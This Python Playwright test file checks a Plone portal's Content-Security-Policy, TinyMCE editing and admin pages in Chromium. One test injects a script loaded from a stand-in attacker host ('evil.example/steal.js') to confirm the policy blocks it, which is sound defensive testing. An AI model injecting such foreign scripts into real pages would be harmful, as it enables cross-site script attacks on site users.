"""The portal's Content-Security-Policy in real Chromium: the browser tests' watch
(``conftest.watch_csp``) sees what the policy blocks, so that their "no violations"
means something."""

import transaction
from e2e.conftest import watch_csp
from playwright.sync_api import expect
from plone import api
from plone.app.testing import SITE_OWNER_NAME

from helpers import site_url


def test_the_policy_blocks_foreign_scripts_and_the_watch_sees_it(chromium, functional):
    context = chromium.new_context(locale="sv-SE")
    violations = watch_csp(context)
    try:
        page = context.new_page()
        page.goto(site_url(functional))
        expect(page.locator("body")).to_be_visible()
        assert violations == []  # Plone's own page works under the policy
        # A script from elsewhere, as injected markup would load it.
        page.evaluate(
            """() => {
              const script = document.createElement("script");
              script.src = "https://evil.example/steal.js";
              document.head.appendChild(script);
            }"""
        )
        page.wait_for_timeout(500)
        assert any("script-src" in v and "evil.example" in v for v in violations), (
            violations
        )
    finally:
        context.close()


def log_in(page, site, username, password):
    """Log in through Plone's login form, as staff do."""
    page.goto(f"{site}/login")
    page.locator("#__ac_name").fill(username)
    page.locator("#__ac_password").fill(password)
    page.locator("#__ac_password").press("Enter")
    page.wait_for_load_state()


def test_a_communicator_edits_rich_text_in_tinymce_under_the_policy(
    page, demo_functional
):
    """Classic UI's edit form with TinyMCE, the mockup patterns and the add-on's
    styles works under the policy: the ``page`` fixture fails on any violation."""
    site = site_url(demo_functional)
    log_in(page, site, "kommunikator", "kommunikator-demo")
    eservice = f"{site}/e-tjanster/ansokan-om-bygglov"
    page.goto(f"{eservice}/edit")
    expect(page.locator(".tox-tinymce").first).to_be_visible()
    editor = page.frame_locator(".tox-edit-area__iframe").first.locator("body")
    editor.click()
    editor.press("Control+End")
    editor.type(" Handläggningstiden är fyra veckor.")
    page.get_by_role("button", name="Spara").click()
    page.wait_for_url(eservice)
    expect(page.get_by_role("main")).to_contain_text(
        "Handläggningstiden är fyra veckor."
    )


# Classic UI pages an administrator uses, beyond those the other browser tests visit.
ADMIN_PAGES = (
    "",
    "/@@overview-controlpanel",
    "/@@etjanster-controlpanel",
    "/e-tjanster/folder_contents",
    "/e-tjanster/@@sharing",
    "/e-tjanster/++add++EService",
    "/@@search?SearchableText=bygglov",
    "/@@personal-information",
    "/@@usergroup-userprefs",
    "/@@delivery-queue",
    "/@@eid-controlpanel",
    "/@@site-controlpanel",
    "/@@mail-controlpanel",
    "/@@tinymce-controlpanel",
    "/@@theming-controlpanel",
    "/@@dexterity-types",
    "/@@navigation-controlpanel",
    "/++add++Document",
    "/++add++Event",
)


def test_classic_ui_administration_works_under_the_policy(page, demo_functional):
    with api.env.adopt_user(username=SITE_OWNER_NAME):
        api.user.create(
            email="admin@example.se",
            username="csp-admin",
            password="csp-admin-secret",
            roles=["Manager"],
        )
    transaction.commit()
    site = site_url(demo_functional)
    log_in(page, site, "csp-admin", "csp-admin-secret")
    for path in ADMIN_PAGES:
        answer = page.goto(f"{site}{path}")
        assert answer.status == 200, path
        assert "login" not in page.url and "require_login" not in page.url, path
        page.wait_for_load_state("networkidle")
    # The ``page`` fixture fails at teardown on any violation.
